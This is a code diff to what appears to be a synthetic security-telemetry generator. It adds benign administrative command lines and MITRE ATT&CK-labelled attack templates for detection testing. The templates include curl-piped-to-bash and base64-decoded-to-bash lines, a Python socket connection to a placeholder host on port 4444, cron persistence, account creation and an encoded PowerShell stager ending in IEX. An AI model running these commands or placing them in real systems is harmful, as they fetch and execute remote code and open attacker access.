@@ -108,7 +108,10 @@ ADMIN_WIN = [
     "\"C:\\Windows\\system32\\cmd.exe\" ",
     "ipconfig /all",
     "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" \"C:\\Users\\{u}\\Documents\\Budget 2027 – {n}.xlsx\"",
-    "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=de --field-trial-handle={n},i,{n2},131072 /prefetch:1",
+    "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --display-capture-permissions-policy-allowed --lang=de --device-scale-factor=1 --num-raster-threads=2 --enable-main-frame-before-activation --renderer-client-id={n} --time-ticks-at-unix-epoch=-1701{n2} --launch-time-ticks={n}{n2} --field-trial-handle={n},i,{n2},262144 --variations-seed-version=20261129-050046.592000 --mojo-platform-channel-handle=4{n} /prefetch:1",
+    # Management agents run encoded PowerShell too: long -EncodedCommand lines are not only attackers'.
+    "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoLogo -NonInteractive -ExecutionPolicy Bypass -EncodedCommand {enc}",
+    "\"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe\" -powershell \"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\{n}_{n2}.ps1\" \"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Results\\{n}.output\" 120 1 0",
     "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
     "gpupdate.exe /force",
     "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -Command \"Get-Service | Where-Object {{ $_.Status -eq 'Running' }} | Select-Object Name\"",
@@ -122,6 +125,7 @@ ADMIN_WIN = [
 
 ATTACK_LINUX = [
     ("execution", "T1059.004", "Unix Shell", ["bash", "-c", "curl -s http://{ip}/i.sh | bash"]),
+    ("execution", "T1059.004", "Unix Shell", ["bash", "-c", "echo {enc} | base64 -d | bash"]),
     ("execution", "T1059.006", "Python", ["python3", "-c", "import socket,os;s=socket.socket();s.connect(('{ip}',4444))"]),
     ("persistence", "T1053.003", "Cron", ["crontab", "/tmp/.c"]),
     ("persistence", "T1136.001", "Local Account", ["useradd", "-m", "-s", "/bin/bash", "svc{n}"]),
@@ -145,7 +149,8 @@ ADMIN_LINUX = [
 def ps_script(rng, n):
     """A long PowerShell stager, as attackers encode it with -enc (UTF-16LE base64)."""
     body = ["$s='http://203.0.113.%d/%d';" % (rng.randrange(1, 255), n)]
-    while sum(map(len, body)) < rng.randrange(400, 2400):
+    length = rng.randrange(400, 2400)
+    while sum(map(len, body)) < length:
         body.append("$k=[Convert]::FromBase64String('%s');" %
                     base64.b64encode(bytes(rng.randrange(256) for _ in range(48))).decode())
     body.append("IEX([Text.Encoding]::UTF8.GetString($k))")
@@ -337,7 +342,7 @@ class Case:
             tactic, tid, tname, tmpl = table[i]
             t += int(rng.expovariate(1 / 3e6)) + 1000
             if host.linux:
-                argv = [a.format(u=acct.user, ip="203.0.113.%d" % rng.randrange(1, 255), n=rng.randrange(99999)) for a in tmpl]
+                argv = [self.fill(a, acct, host) for a in tmpl]
                 p = self.process(t, host, acct, logon_id, " ".join(argv), parent, (tid, tname), argv)
             else:
                 p = self.process(t, host, acct, logon_id, self.fill(rng.choice(tmpl), acct, host), parent, (tid, tname))
